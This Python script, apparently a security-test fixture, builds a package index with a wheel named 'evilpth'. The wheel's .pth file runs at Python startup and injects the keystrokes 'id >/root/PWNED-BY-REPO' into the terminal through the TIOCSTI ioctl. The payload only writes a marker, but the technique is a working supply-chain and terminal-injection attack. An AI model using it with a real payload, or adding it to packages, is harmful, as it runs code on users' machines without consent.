"""Builds a package index with the packages of another one and a package `evilpth` with a `.pth` file.

Arguments: the other index (a directory), the new one.
"""

import os
import sys
import zipfile

# One line, since Python executes each line of such a file separately.
TYPING = """import fcntl
try:
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in "id >/root/PWNED-BY-REPO\\n":
        fcntl.ioctl(terminal, 0x5412, letter.encode())
except OSError:
    pass
"""
CODE = f"import os; exec({TYPING!r})\n"
INFO = "evilpth-1.0.dist-info"
FILES = {
    "evilpth.pth": CODE,
    f"{INFO}/METADATA": "Metadata-Version: 2.1\nName: evilpth\nVersion: 1.0\n",
    f"{INFO}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}

old, new = sys.argv[1:]
os.makedirs(f"{new}/evilpth")
for name in os.listdir(old):
    if name != "index.html":
        os.symlink(f"{old}/{name}", f"{new}/{name}")
with zipfile.ZipFile(f"{new}/evilpth/evilpth-1.0-py3-none-any.whl", "w") as wheel:
    for name, text in FILES.items():
        wheel.writestr(name, text)
    record = "".join(f"{name},,\n" for name in [*FILES, f"{INFO}/RECORD"])
    wheel.writestr(f"{INFO}/RECORD", record)
with open(f"{new}/evilpth/index.html", "w") as page:
    page.write('<a href="evilpth-1.0-py3-none-any.whl">evilpth-1.0-py3-none-any.whl</a>\n')
with open(f"{new}/index.html", "w") as page:
    page.write("".join(f'<a href="{name}/">{name}</a>\n' for name in os.listdir(new) if name != "index.html"))
